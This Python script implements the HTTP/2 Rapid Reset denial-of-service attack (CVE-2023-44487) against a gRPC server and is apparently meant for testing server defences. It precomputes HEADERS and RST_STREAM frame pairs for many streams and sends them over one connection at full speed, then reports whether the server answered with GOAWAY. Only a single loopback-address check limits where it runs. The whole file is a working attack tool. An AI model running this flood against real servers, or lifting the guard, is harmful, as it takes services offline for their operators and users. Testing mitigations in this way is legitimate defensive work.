#!/usr/bin/env python3
"""HTTP/2 Rapid Reset (CVE-2023-44487) against a gRPC server on loopback, for tests.

Opens one h2c connection and sends HEADERS for a new stream followed at once by RST_STREAM
(CANCEL), for N streams, as fast as the socket takes them. The HEADERS block is built once with
the `h2` library's HPACK encoder using literals that are never indexed, so the same bytes are
valid for every stream and the attack costs the sender almost nothing.

  rapid_reset.py HOST PORT STREAMS [--method /analytics.AnalyticsService/ReportEvent]

Prints one JSON line: streams sent, seconds, and whether the server sent GOAWAY. Only loopback
addresses are accepted.
"""
import argparse
import ipaddress
import json
import socket
import struct
import sys
import time

import hpack


def frame(kind, flags, stream_id, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("streams", type=int)
    parser.add_argument("--method", default="/analytics.AnalyticsService/ReportEvent")
    parser.add_argument("--seconds", type=float, default=60.0, help="stop after this long")
    args = parser.parse_args()
    if not ipaddress.ip_address(socket.gethostbyname(args.host)).is_loopback:
        sys.exit("rapid_reset.py: loopback targets only")

    encoder = hpack.Encoder()
    headers = [(":method", "POST"), (":scheme", "http"), (":path", args.method),
               (":authority", "%s:%d" % (args.host, args.port)),
               ("content-type", "application/grpc"), ("te", "trailers")]
    # Never-indexed literals: the block does not touch the dynamic table, so it can be repeated.
    block = encoder.encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers])

    # Every stream's two frames, built up front so that sending runs at the socket's speed.
    headers_prefix = struct.pack(">I", len(block))[1:] + bytes([0x1, 0x4])  # HEADERS, END_HEADERS
    reset_prefix = struct.pack(">I", 4)[1:] + bytes([0x3, 0])               # RST_STREAM
    cancel = struct.pack(">I", 0x8)
    parts = []
    for i in range(args.streams):
        sid = struct.pack(">I", 1 + 2 * i)
        parts += (headers_prefix, sid, block, reset_prefix, sid, cancel)
    attack = memoryview(b"".join(parts))

    sock = socket.create_connection((args.host, args.port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0, b""))
    sock.settimeout(0)
    started = time.monotonic()
    inbox = bytearray()
    goaway = False
    closed = False
    per_stream = len(attack) // max(1, args.streams)
    while attack and not closed and time.monotonic() - started < args.seconds:
        try:
            n = sock.send(attack[:1 << 20])
            attack = attack[n:]
        except BlockingIOError:
            time.sleep(0.0002)
        except (BrokenPipeError, ConnectionResetError):
            closed = True
        try:
            data = sock.recv(1 << 20)
            if data:
                inbox += data
            else:
                closed = True
        except BlockingIOError:
            pass
        except ConnectionResetError:
            closed = True
        # Walk whole frames in what came back; a GOAWAY (type 7) means the server pushed back.
        while len(inbox) >= 9:
            length = int.from_bytes(inbox[0:3], "big")
            if len(inbox) < 9 + length:
                break
            goaway = goaway or inbox[3] == 0x7
            del inbox[:9 + length]
    sent = args.streams - len(attack) // per_stream if per_stream else 0
    elapsed = time.monotonic() - started
    sock.close()
    print(json.dumps({"streams": sent, "seconds": round(elapsed, 3), "goaway": goaway,
                      "closed_by_server": closed}))


if __name__ == "__main__":
    main()
